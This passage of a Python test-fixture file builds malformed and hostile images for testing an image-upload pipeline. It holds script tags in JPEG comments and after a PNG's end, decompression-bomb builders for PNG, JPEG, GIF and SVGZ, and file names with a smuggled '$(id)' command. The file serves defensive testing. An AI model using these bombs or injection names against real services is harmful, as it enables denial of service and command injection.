        ("exif-gps.webp", forged.saved(colour, "WEBP", exif=exif, xmp=CANARY.encode()), SAFE),
        ("exif-not-exif.jpg", forged.saved(colour, "JPEG", exif=b"Exif\0\0MM\0*\xff\xff\xff\xff" + bytes(40)), EITHER),
        ("comment.jpg", forged.saved(colour, "JPEG", comment=f"<script>{_ALERT}</script>".encode()), SAFE),
        ("cmyk.jpg", forged.saved(_picture("CMYK"), "JPEG"), SAFE),
        ("grey.jpg", forged.saved(grey, "JPEG"), SAFE),
        ("progressive.jpg", forged.saved(colour, "JPEG", progressive=True), SAFE),
        ("text-chunks.png", forged.saved(clear, "PNG", pnginfo=text), SAFE),
        ("grey-16-bit.png", forged.sixteen_bit(grey), SAFE),
        ("grey-alpha.png", forged.saved(_picture("LA"), "PNG"), SAFE),
        ("palette.png", forged.saved(clear.quantize(8), "PNG"), SAFE),
        ("page-after-the-end.png", forged.saved(clear, "PNG") + f"<script>{_ALERT}</script>".encode(), EITHER),
        ("profile-not-a-profile.png", forged.saved(colour, "PNG", icc_profile=CANARY.encode() * 20), EITHER),
        ("transparent.png", forged.saved(Image.new("RGBA", (640, 320)), "PNG"), EITHER),
        ("white.png", forged.saved(Image.new("RGB", (640, 320), "white"), "PNG"), EITHER),
        ("one-point.png", forged.saved(Image.new("RGB", (1, 1), "navy"), "PNG"), EITHER),
        ("one-point.gif", forged.saved(Image.new("P", (1, 1)), "GIF"), EITHER),
        ("one-row.png", forged.black_png(20_000, 1), EITHER),
    ]


def _broken_pictures() -> list[Case]:
    """Pictures that were cut off or changed on the way."""
    colour = _picture("RGB")
    png, jpeg = forged.saved(colour, "PNG"), forged.saved(colour, "JPEG")
    webp, gif = forged.saved(colour, "WEBP"), forged.saved(colour, "GIF")
    grey = forged.saved(_picture("L"), "JPEG")  # what is noise in it may come out in any shade, but not magenta
    changed = bytearray(png)
    changed[-20] ^= 0xFF
    return [
        ("truncated.png", png[: len(png) // 2], REFUSED),
        ("truncated.jpg", jpeg[: len(jpeg) // 2], REFUSED),
        ("truncated.webp", webp[: len(webp) // 2], REFUSED),
        ("truncated.gif", gif[: len(gif) // 2], EITHER),
        ("signature-only.png", png[:8], REFUSED),
        ("signature-only.gif", b"GIF89a", REFUSED),
        ("signature-only.jpg", b"\xff\xd8\xff", REFUSED),
        ("header-only.png", png[:33], REFUSED),
        ("no-points.png", forged.png(640, 320, 8, 2, b""), REFUSED),
        ("no-palette.png", forged.png(64, 64, 8, 3, zlib.compress(bytes(65 * 64))), EITHER),
        ("zero-wide.png", forged.png(0, 320, 8, 2, zlib.compress(b"")), REFUSED),
        ("depth-unknown.png", forged.png(64, 64, 7, 5, zlib.compress(bytes(9999))), REFUSED),
        ("wrong-checksum.png", bytes(changed), EITHER),
        ("noise-within.jpg", grey[:700] + random.Random(3).randbytes(2000) + grey[2700:], EITHER),
    ]


def _picture_bombs() -> list[Case]:
    """A few kilobytes that unpack to gigabytes."""
    unpacked = zlib.compress(bytes(64 * _MIB), 1)  # as text or as a profile, not as points
    note = forged.chunk(b"zTXt", b"Comment\0\0" + unpacked)
    profile = forged.chunk(b"iCCP", b"p\0\0" + unpacked)
    sound = zlib.compress(bytes(81 * 640))
    progressive = forged.saved(_picture("RGB"), "JPEG", progressive=True)
    last_scan = progressive[progressive.rindex(b"\xff\xda") : -2]
    return [
        ("bomb-50000.png", forged.black_png(50_000, 50_000), REFUSED),
        ("bomb-30000.png", forged.black_png(30_000, 30_000), REFUSED),
        # Just below where Pillow says no; 20 MB as it is, 680 MB as RGBA.
        ("bomb-13000.png", forged.black_png(13_000, 13_000), EITHER),
        ("bomb-header.png", forged.png(2**31 - 1, 2**31 - 1, 16, 6, zlib.compress(bytes(99))), REFUSED),
        # More rows than the header says.
        ("bomb-rows.png", forged.png(8, 8, 1, 0, forged.zeros(100 * _MIB)), EITHER),
        ("bomb-text.png", forged.png(640, 640, 1, 0, sound, before=note), EITHER),
        ("bomb-profile.png", forged.png(640, 640, 1, 0, sound, before=profile), EITHER),
        ("bomb-header.jpg", forged.resized_jpeg(progressive, 65_500, 65_500), REFUSED),
        ("bomb-13000.jpg", forged.resized_jpeg(progressive, 13_000, 13_000), EITHER),
        ("bomb-scans.jpg", progressive[:-2] + last_scan * 1_000 + b"\xff\xd9", EITHER),
        ("bomb-16384.webp", forged.one_colour_webp(16_384, 16_384), REFUSED),
        ("bomb-65535.gif", _gif(65_535, 65_535, frames=1), REFUSED),
    ]


def _animations() -> list[Case]:
    """Logos that move: the first frame may be taken, or none."""
    frames = [_picture("RGB"), _picture("L").convert("RGB"), Image.new("RGB", (640, 320), "white")]
    moving: dict[str, object] = {"save_all": True, "append_images": frames[1:], "duration": 100, "loop": 0}
    return [
        ("animated.gif", forged.saved(frames[0], "GIF", **moving), EITHER),
        ("animated.webp", forged.saved(frames[0], "WEBP", **moving), EITHER),
        ("animated.png", forged.saved(frames[0], "PNG", **moving), EITHER),
        ("frames-20000.gif", _gif(2_000, 2_000, frames=20_000), EITHER),
    ]


def _names() -> list[Case]:
    """Names that a shell, a command line or a page would misread. All can be stored on Windows too."""
    names = ("--version.svg", "logo & 'co' $(id) %2e%2e.svg", "två.prickar.png.svg", "STORA.SVG", "space .svg")
    return [(name, _svg(_MARK), EITHER) for name in names]


# How the bombs are made


def _base64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def _svgz_bomb() -> bytes:
    """A well-formed drawing with 200 MB of spaces in it, compressed to 200 kB."""
    whole = _svg(_MARK)
    cut = whole.index(b"<path")
    spaces = b" " * _MIB
    checksum = zlib.crc32(whole[:cut])
    for _ in range(200):
        checksum = zlib.crc32(spaces, checksum)
    checksum = zlib.crc32(whole[cut:], checksum)
    header = b"\x1f\x8b\x08" + bytes(6) + b"\xff"
    return (
        header
        + forged.deflated(whole[:cut], spaces, 200, whole[cut:])
        + struct.pack("<II", checksum, len(whole) + 200 * _MIB)
    )


def _gif(width: int, height: int, frames: int) -> bytes:
    """A GIF of that size whose frames are one point each, cleared before the next."""
    screen = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\xff\xff\xff\x12\x34\x56"
    wait = b"\x21\xf9\x04" + struct.pack("<BHB", 0x08, 1, 0) + b"\0"
    point = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x4c\x01\x00"  # the point of the second colour
    return screen + (wait + point) * frames + b"\x3b"
